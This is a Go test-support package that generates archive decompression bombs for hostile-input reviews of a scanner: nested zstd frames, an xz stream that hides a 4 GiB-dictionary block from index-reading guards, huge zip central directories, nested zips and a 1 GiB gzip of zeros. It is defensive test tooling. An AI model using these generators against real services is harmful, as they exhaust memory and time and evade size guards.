// Package bombs builds the archive attacks of the hostile-input reviews:
// files of a few bytes to a few MiB that ask a reader for far more memory
// or time than they are worth, each the way an attacker who can push one
// blob would write it. Tests and benchmarks commit none of them: they are
// generated, so that what they are is read here.
package bombs

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"

	"github.com/klauspost/compress/gzip"
	"github.com/ulikunitz/xz"
)

// A Bomb is one crafted file.
type Bomb struct {
	Name string // a file name that says what it is
	What string // the attack, in a sentence
	Data []byte
}

// All is every bomb, at the sizes the reviews used, each under the scan's
// 10 MiB bound on a blob (a larger one is not opened): what a worker's
// scan must survive, all at once, within its memory bound.
func All() ([]Bomb, error) {
	hidden, err := XzHiddenBlock(40)
	if err != nil {
		return nil, err
	}
	nested, err := NestedZip(7, 80_000)
	if err != nil {
		return nil, err
	}
	dir, err := ZipDirectory(90_000)
	if err != nil {
		return nil, err
	}
	zeros, err := GzipZeros(1 << 30)
	if err != nil {
		return nil, err
	}
	return []Bomb{
		{"nested.zst", "8 nested zstd frames, each asking a 64 MiB window", NestedZstd(8, 26, []byte("TOKEN=inner\n"))},
		{"hidden.xz", "an xz stream whose index hides a second block asking a 4 GiB dictionary", hidden},
		{"directory.zip", "a zip whose central directory lists 90,000 entries (9 MB)", dir},
		{"nested.zip", "a zip of a zip, 7 deep, the innermost listing 80,000 entries (8 MB)", nested},
		{"zeros.gz", "a gzip of 1 GiB of zeros", zeros},
	}, nil
}

var zstdMagic = []byte{0x28, 0xb5, 0x2f, 0xfd}

// NestedZstd is levels zstd frames, each asking a 2^log-byte window and
// holding the next as one raw block, the last holding inner: a few bytes
// per level, a window per level to a reader that keeps every level's
// decoder open.
func NestedZstd(levels, log int, inner []byte) []byte {
	b := inner
	for range levels {
		frame := append([]byte{}, zstdMagic...)
		frame = append(frame, 0x00, byte(log-10)<<3)                                        // no single segment; window descriptor
		frame = binary.LittleEndian.AppendUint32(frame, uint32(len(b))<<3|1)[:len(frame)+3] // the last block, raw
		b = append(frame, b...)
	}
	return b
}

// XzHiddenBlock is the attack on a guard that reads an xz stream's index:
// a second block asking for an LZMA2 dictionary of property bits (40:
// 4 GiB), which the index folds into the first block's record (one record
// for two blocks), so that a reader of the index never sees the second
// block's header.
func XzHiddenBlock(bits byte) ([]byte, error) {
	var buf bytes.Buffer
	w, err := xz.NewWriter(&buf)
	if err == nil {
		_, err = w.Write([]byte("xz says hello\n"))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		return nil, err
	}
	b := buf.Bytes()
	// The stream footer's backward size locates the index: indicator 0,
	// the number of records (1), the block's unpadded and uncompressed
	// sizes.
	footer := b[len(b)-12:]
	index := len(b) - 12 - (int(binary.LittleEndian.Uint32(footer[4:8]))+1)*4
	unpadded, n := binary.Uvarint(b[index+2:])
	uncompressed, m := binary.Uvarint(b[index+2+n:])
	if b[index] != 0 || b[index+1] != 1 || n <= 0 || m <= 0 {
		return nil, fmt.Errorf("unexpected xz layout % x", b[12:])
	}
	end := 12 + (int(unpadded)+3)&^3
	hidden := bytes.Clone(b[12:end])
	if err := SetXzDictionary(hidden, bits); err != nil {
		return nil, err
	}
	out := append(bytes.Clone(b[:end]), hidden...)

	// One record covering both blocks, then a footer that agrees.
	rec := binary.AppendUvarint([]byte{0, 1}, uint64(end-12)+unpadded)
	rec = binary.AppendUvarint(rec, uncompressed)
	for len(rec)%4 != 0 {
		rec = append(rec, 0)
	}
	rec = binary.LittleEndian.AppendUint32(rec, crc32.ChecksumIEEE(rec))
	foot := binary.LittleEndian.AppendUint32(nil, uint32(len(rec)/4-1))
	foot = append(foot, footer[8:10]...)
	foot = append(binary.LittleEndian.AppendUint32(nil, crc32.ChecksumIEEE(foot)), foot...)
	out = append(append(out, rec...), foot...)
	return append(out, "YZ"...), nil
}

// SetXzDictionary sets the LZMA2 dictionary (property bits) of the xz
// block whose header block starts with, and the header's CRC32.
func SetXzDictionary(block []byte, bits byte) error {
	size := (int(block[0]) + 1) * 4
	i := bytes.Index(block[:size], []byte{0x21, 0x01})
	if i < 0 {
		return fmt.Errorf("no LZMA2 filter in the block header")
	}
	block[i+2] = bits
	binary.LittleEndian.PutUint32(block[size-4:], crc32.ChecksumIEEE(block[:size-4]))
	return nil
}

// ZipDirectory is a zip of entries empty stored files: its central
// directory is what costs, parsed into a File each by a reader that
// parses it whole before any limit on entries applies.
func ZipDirectory(entries int) ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := range entries {
		if _, err := zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprint(i), Method: zip.Store}); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// NestedZip is a zip holding a zip, depth levels of them, the innermost a
// ZipDirectory of entries: every level's directory alive at once to a
// reader that keeps each level open while it reads the next.
func NestedZip(depth, entries int) ([]byte, error) {
	b, err := ZipDirectory(entries)
	for level := 1; level < depth && err == nil; level++ {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		var w io.Writer
		if w, err = zw.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("level%d.zip", level), Method: zip.Store}); err == nil {
			if _, err = w.Write(b); err == nil {
				err = zw.Close()
			}
		}
		b = buf.Bytes()
	}
	return b, err
}

// GzipZeros is a gzip of n zeros (about n/1000 bytes): time and, to a
// reader that holds what it inflates, memory.
func GzipZeros(n int64) ([]byte, error) {
	var buf bytes.Buffer
	w, err := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	if err != nil {
		return nil, err
	}
	zeros := make([]byte, 1<<20)
	for left := n; left > 0 && err == nil; left -= int64(len(zeros)) {
		_, err = w.Write(zeros[:min(left, int64(len(zeros)))])
	}
	if err == nil {
		err = w.Close()
	}
	return buf.Bytes(), err
}
